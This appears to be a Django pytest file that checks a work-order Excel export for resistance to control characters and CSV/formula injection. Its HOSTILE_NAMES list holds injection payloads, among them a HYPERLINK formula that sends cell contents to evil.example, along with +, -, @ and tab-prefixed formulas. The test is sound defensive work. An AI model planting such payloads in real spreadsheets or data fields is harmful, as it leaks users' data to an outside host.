"""The Excel export holds whatever customers typed (O5): a control character must not break the
export of a whole branch, and a name that looks like a formula must arrive as text."""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from yekuo.orders.models import WorkOrder
from yekuo.web.tests.helpers import login, make_order

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+86 139", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1"]


def _export(client, user, cast):
    response = login(client, user, cast).get("/orders/export.xlsx")
    assert response.status_code == 200, response.content
    return load_workbook(BytesIO(b"".join(response.streaming_content))).active


def test_a_control_character_in_a_name_or_address_does_not_break_the_export(client, cast):
    order = make_order(cast)
    # Written as an older row would be, past today's input rule: the export must survive what is stored (no
    # NUL: PostgreSQL cannot store it, and every input refuses it).
    WorkOrder.objects.filter(pk=order.pk).update(customer_name="张\x01三\x07\x1b", site_address="东区\x0b康和路1号\x1f")
    sheet = _export(client, cast.auditor, cast)
    header = [c.value for c in sheet[1]]
    row = {header[i]: c.value for i, c in enumerate(sheet[2])}
    assert row["工单编号"] == order.number
    assert row["客户名称"] == "张三" and row["用电地址"] == "东区康和路1号"


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_name_that_looks_like_a_formula_is_written_as_text(client, cast, name):
    order = make_order(cast, site_address="=1+2 东区康和路1号")
    # Stored past the input rule (a tab or carriage return is refused at input, O8): the export is checked alone.
    WorkOrder.objects.filter(pk=order.pk).update(customer_name=name)
    sheet = _export(client, cast.auditor, cast)
    header = [c.value for c in sheet[1]]
    cells = {header[i]: c for i, c in enumerate(sheet[2])}
    for column, expected in (("客户名称", name), ("用电地址", "=1+2 东区康和路1号")):
        written = cells[column]
        # (XML reads a carriage return back as a line feed)
        assert written.data_type == "s" and written.value == expected.replace("\r", "\n"), column
        assert written.quotePrefix  # stays text when someone edits the cell in Excel
